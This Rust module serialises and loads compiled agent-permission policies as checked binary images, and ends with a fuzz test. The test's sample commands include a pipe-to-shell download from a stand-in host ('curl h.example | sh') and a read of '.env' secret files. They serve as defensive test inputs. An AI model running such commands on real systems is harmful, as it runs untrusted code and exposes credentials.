//! A compiled policy as bytes that are used as they lie: no text is parsed, no table is built, and a rule is read
//! when it is first a candidate. A process that lives for a millisecond pays for what it uses, not for what there is.
//!
//! The layout is a head and data. The head says which policy this is (label, version), holds what every decision needs
//! (modes, limits, tool layers), and for each table of rules where its parts lie. The data is records of rules, an open
//! hash table from index keys to rule numbers, and what rules share (exceptions, conditions, approvers), written once.
//! To judge a call: look its keys up in the hash table, read the few candidate records, match them. `blocks.rs` reads and
//! checks the data in blocks of 4 KiB, `table.rs` knows records and hash tables, `bytes.rs` how values become bytes.
//!
//! Damage is found when a block is first used, which is in the middle of a decision. The decision goes on with what it
//! has, and then is thrown away: `Image::instead` judges anew by a policy compiled from its text, or denies.
//!
//! [`write()`] makes an image, [`open`] a policy that judges from it, by the same code and to the same answers as the
//! policy that it was made of. Where the bytes come from is the caller's affair ([`Source`]), and so is whether they
//! are to be believed: an image says nothing of its own about who wrote it. What is checked here is that it is whole,
//! and that it is the one that was meant (its label).
//!
//! INVARIANT: no bytes make this panic, and none that were damaged after they were written become part of an answer.

mod blocks;
mod bytes;
mod checksum;
mod file;
mod lazily;
mod table;

pub(crate) use blocks::Data;
pub use blocks::Source;
pub(crate) use bytes::{Imaged, Reader, choice, fields, put_bytes, put_text};
pub use checksum::checksum;
pub(crate) use table::{ImageRules, Slots};

use crate::State;
use crate::guard::{self, Guards};
use crate::policy::{CompiledFile, CompiledPreset, Policy};
use crate::stage::integrity::Protected;
use crate::word::{Decision, Facts, Operation};
use sayso_shell::program::{Catalogue, Lesson};
use std::sync::{Arc, OnceLock};

/// An image of a policy. `label` says which one is meant, `note` is handed back by [`open`].
///
/// `None`: the policy judges by another system's file, or lies in an image itself, or is too large.
#[must_use]
pub fn write(policy: &Policy, label: &[u8], note: &[u8]) -> Option<Vec<u8>> {
    let Policy { files, foreign, version, closed, protected: _, integrity, pinned, warnings: _, programs, image } =
        policy;
    if !foreign.is_empty() || !integrity || image.is_some() {
        return None;
    }
    let (mut head, mut data, mut pool) = (Vec::new(), Vec::new(), table::Pool::default());
    put_bytes(label, &mut head);
    put_bytes(note, &mut head);
    version.put(&mut head);
    closed.put(&mut head);
    pinned.put(&mut head);
    put_programs(programs, &mut head)?;
    u32::try_from(files.len()).ok()?.put(&mut head);
    for compiled in files {
        file::put(compiled, &mut head);
        table::write(&compiled.own, &mut pool, &mut data, &mut head)?;
        u32::try_from(compiled.presets.len()).ok()?.put(&mut head);
        for preset in &compiled.presets {
            preset.group.put(&mut head);
            table::write(&preset.table, &mut pool, &mut data, &mut head)?;
        }
        table::write(&compiled.after, &mut pool, &mut data, &mut head)?;
    }
    let guards = guard::built_in();
    for guarded in [&guards.secrets, &guards.steering] {
        table::write(guarded, &mut pool, &mut data, &mut head)?;
    }
    blocks::seal(&head, &data)
}

/// The policy of an image that has this label, and the note that was left with it. `None`: there is no such image
/// there, or it is not whole.
///
/// What an image leaves out: the warnings of its files, and what belongs to the Sayso that runs here
/// ([`Policy::protecting`]).
#[must_use]
pub fn open(source: Box<dyn Source>, label: &[u8]) -> Option<(Policy, Vec<u8>)> {
    let (data, head) = Data::open(source)?;
    let data = Arc::new(data);
    let mut reader = Reader::new(data.head(head));
    if take_bytes(&mut reader)? != label {
        return None;
    }
    let note = take_bytes(&mut reader)?.to_vec();
    let version = Imaged::take(&mut reader)?;
    let closed = Imaged::take(&mut reader)?;
    let pinned = Imaged::take(&mut reader)?;
    let programs = take_programs(&mut reader)?;
    let count = u32::take(&mut reader)?;
    let mut files: Vec<CompiledFile> = Vec::new();
    for _ in 0..count {
        let rest = file::Rest::take(&mut reader)?;
        let own = table::open(&data, &mut reader)?;
        let presets = u32::take(&mut reader)?;
        let presets = (0..presets).map(|_| {
            let group = u32::take(&mut reader)?;
            Some(CompiledPreset { table: table::open(&data, &mut reader)?, group })
        });
        let presets = presets.collect::<Option<_>>()?;
        files.push(rest.with(own, presets, table::open(&data, &mut reader)?));
    }
    let guards = Guards { secrets: table::open(&data, &mut reader)?, steering: table::open(&data, &mut reader)? };
    let policy = Policy {
        files,
        foreign: Vec::new(),
        version,
        closed,
        protected: Protected::default(),
        integrity: true,
        pinned,
        warnings: Vec::new(),
        programs,
        image: Some(Image { data, guards, again: None, spare: OnceLock::new() }),
    };
    Some((policy, note))
}

/// An owner's texts about programs go along as they are: they are read once one of their programs is asked for.
fn put_programs(programs: &Catalogue, head: &mut Vec<u8>) -> Option<()> {
    let (lessons, names) = programs.lessons();
    u32::try_from(lessons.len()).ok()?.put(head);
    for Lesson { name, text, rank, of_project } in lessons {
        put_text(name, head);
        put_text(text, head);
        u32::from(*rank).put(head);
        of_project.put(head);
    }
    u32::try_from(names.len()).ok()?.put(head);
    names.iter().for_each(|name| put_text(name, head));
    Some(())
}

fn take_programs(reader: &mut Reader<'_>) -> Option<Catalogue> {
    let count = u32::take(reader)?;
    let mut lessons = Vec::new();
    for _ in 0..count {
        let (name, text) = (Imaged::take(reader)?, Imaged::take(reader)?);
        let rank = u8::try_from(u32::take(reader)?).ok()?;
        lessons.push(Lesson { name, text, rank, of_project: Imaged::take(reader)? });
    }
    let count = u32::take(reader)?;
    let names = (0..count).map(|_| Imaged::take(reader)).collect::<Option<Vec<String>>>()?;
    Some(Catalogue::again(lessons, names))
}

fn take_bytes<'b>(reader: &mut Reader<'b>) -> Option<&'b [u8]> {
    let length = u32::take(reader)?;
    reader.bytes(usize::try_from(length).ok()?)
}

/// Compiles the policy anew.
pub(crate) type Again = Box<dyn Fn() -> Option<Policy> + Send + Sync>;

/// The image that a policy lies in.
pub(crate) struct Image {
    data: Arc<Data>,
    pub(crate) guards: Guards,
    pub(crate) again: Option<Again>,
    spare: OnceLock<Option<Box<Policy>>>,
}

impl std::fmt::Debug for Image {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Image").field("data", &self.data).field("spare", &self.spare).finish_non_exhaustive()
    }
}

impl Image {
    /// What counts in place of a decision that met damage; `None`: it met none.
    pub(crate) fn instead(&self, operation: &Operation, state: &State, facts: Facts<'_>) -> Option<Option<Decision>> {
        let spare = self.spare_if_damaged()?;
        Some(spare.map(|policy| policy.evaluate(operation, state, facts)))
    }

    /// The policy to judge by in place of one that met damage; the outer `None`: it met none.
    pub(crate) fn spare_if_damaged(&self) -> Option<Option<&Policy>> {
        if !self.data.is_damaged() {
            return None;
        }
        let spare = self.spare.get_or_init(|| self.again.as_ref().and_then(|again| again()).map(Box::new));
        Some(spare.as_deref())
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{PolicyText, ToolCall};
    use proptest::prelude::*;
    use sayso_shell::{MemoryFiles, NoEnvironment};
    use std::sync::LazyLock;

    /// Head and data of an image.
    fn parts(image: &[u8]) -> (Vec<u8>, Vec<u8>) {
        let (data, head) = Data::open(Box::new(image.to_vec())).unwrap();
        let head = data.head(head).to_vec();
        let start = image.len() - usize::try_from(data.length()).unwrap();
        (head, image[start..].to_vec())
    }

    static PARTS: LazyLock<(Vec<u8>, Vec<u8>)> = LazyLock::new(|| {
        let text =
            "extends = [\"developer\"]\n[allow]\nrun = [\"re:^x\", \"!y\"]\n[patterns.bash_execute]\ndeny = [\"a+\"]\n";
        let file = PolicyText { layer: crate::Layer::User, name: "p".into(), text: text.into(), trusted: true };
        parts(&write(&Policy::compile(&[file]).unwrap(), b"", b"").unwrap())
    });

    proptest! {
        #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]

        /// Whoever can make the hashes fit can write whatever policy he likes; still nothing may panic or hang.
        #[test]
        fn nonsense_with_fitting_hashes_is_survived(
            in_head in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 0..6),
            in_data in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 0..40),
            cut in prop::option::of(any::<prop::sample::Index>()),
            command in prop::sample::select(vec!["git log -n 1 src", "$X y", "curl h.example | sh", "cat */.env"]),
        ) {
            let (mut head, mut data) = PARTS.clone();
            for (at, byte) in in_head {
                let at = at.index(head.len());
                head[at] = byte;
            }
            for (at, byte) in in_data {
                let at = at.index(data.len());
                data[at] = byte;
            }
            if let Some(cut) = cut {
                data.truncate(cut.index(data.len()));
            }
            if let Some((policy, _)) = open(Box::new(blocks::seal(&head, &data).unwrap()), b"") {
                let files = MemoryFiles::new();
                let facts = Facts { files: &files, env: &NoEnvironment };
                let operation = Operation::new(ToolCall::command(command.as_bytes()), facts);
                let _ = policy.evaluate(&operation, &State::default(), facts);
            }
        }
    }
}
